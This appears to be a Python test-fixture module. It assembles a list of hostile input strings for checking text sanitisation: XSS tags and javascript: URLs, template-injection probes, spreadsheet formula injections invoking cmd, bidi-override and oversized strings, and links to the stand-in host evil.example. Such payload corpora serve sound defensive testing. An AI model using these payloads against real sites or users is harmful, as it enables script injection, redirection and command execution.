"""Two hundred texts that try to be more than text."""

from itertools import product

_RUN = "alert(document.domain)"
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "iframe src=x",
    "input autofocus",
    "details open",
    "marquee",
    "audio src=x",
    "select autofocus",
)
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover")
_BREAKS = ('">', "'>", "</textarea>", "</title>", "</blockquote></div>", "-->", "]]>", "</script>")

SCRIPTS = [f"<{tag} {event}={_RUN}>" for tag, event in product(_TAGS, _EVENTS)]
BROKEN_OUT = [f"{head}<script>{_RUN}</script>" for head in _BREAKS] + [f"{head}<b x='" for head in _BREAKS]
SVG = [
    f"<svg><{part}></svg>"
    for part in (
        f"script>{_RUN}</script",
        f"animate onbegin={_RUN} attributeName=x dur=1s /",
        f"a xlink:href='javascript:{_RUN}'><text>x</text></a",
        "use href='//evil.example/x.svg#a' /",
        "image href='//evil.example/x.png' /",
        f"foreignObject><img src=x onerror={_RUN}></foreignObject",
        "style>*{background:url(//evil.example)}</style",
        f"set attributeName=onmouseover to={_RUN} /",
    )
]
ADDRESSES = [
    f"{scheme}{_RUN}"
    for scheme in (
        "javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:", "\x01javascript:",
        "vbscript:", "data:text/html,<script>", "data:image/svg+xml,<svg onload=", "view-source:javascript:",
        "//evil.example/?", "\\\\evil.example\\", "https://evil.example/#", "file:///etc/passwd?",
    )
]  # fmt: skip
ATTRIBUTES = [
    f"{quote}{space}{name}={quote}{_RUN}"
    for quote, space, name in product(
        ('"', "'", "`"), (" ", "/", "\x0c"), ("onmouseover", "style", "autofocus onfocus")
    )
]
TEMPLATES = [
    "{{7*7}}", "{% raw %}", "{{ labels.__class__ }}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{0.__class__}", "%s%n%x",
    "{{constructor.constructor('alert(1)')()}}", "{n}", "{", "}",
]  # fmt: skip
DIRECTIONS = [
    f"{sign}abc اندراب 123{end}"
    for sign, end in product(
        ("\u202e", "\u202d", "\u2066", "\u2067", "\u2068", "\u200f", "\u061c"), ("", "\u202c", "\u2069")
    )
]
HUGE = ["x" * 50_000, "ا" * 50_000, "W " * 20_000, "\u0301" * 5_000, "a\u0300" * 5_000, "🜨" * 10_000, "<" * 20_000]
FORMULAS = [
    f"{sign}cmd|'/C calc'!A0"
    for sign in ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u200b=", "\u00a0@", "|", "%")
] + [
    '=HYPERLINK("//evil.example","x")',
    '@SUM(1+1)*cmd|"/C calc"!A0',
    "-2+3",
    "+1-1",
    '"=1+1',
    ";=1+1",
    ",=1+1",
    "'=1+1",
]
ENCODINGS = [
    "&lt;script&gt;", "&#60;script&#62;", "%3Cscript%3E", "\\u003cscript\\u003e", "＜script＞", "<\x00script>",
    "<scr\x00ipt>",
    "+ADw-script+AD4-", "\ufeff<script>", "<script", "<!--", "<![CDATA[", "<?xml version='1.0'?>", "\x1b[31mred\x07",
    "\x7f\x9b31m", "\u2028alert(1)\u2029", "<a href=//evil.example>x", "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example>",
    "<form action=//evil.example><button>x", "<object data=//evil.example>", "<embed src=//evil.example>",
    "<math><mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>", "<portal src=//evil.example>",
]  # fmt: skip

PAYLOADS = list(
    dict.fromkeys(
        [
            *SCRIPTS,
            *BROKEN_OUT,
            *SVG,
            *ADDRESSES,
            *ATTRIBUTES,
            *TEMPLATES,
            *DIRECTIONS,
            *HUGE,
            *FORMULAS,
            *ENCODINGS,
        ]
    )
)
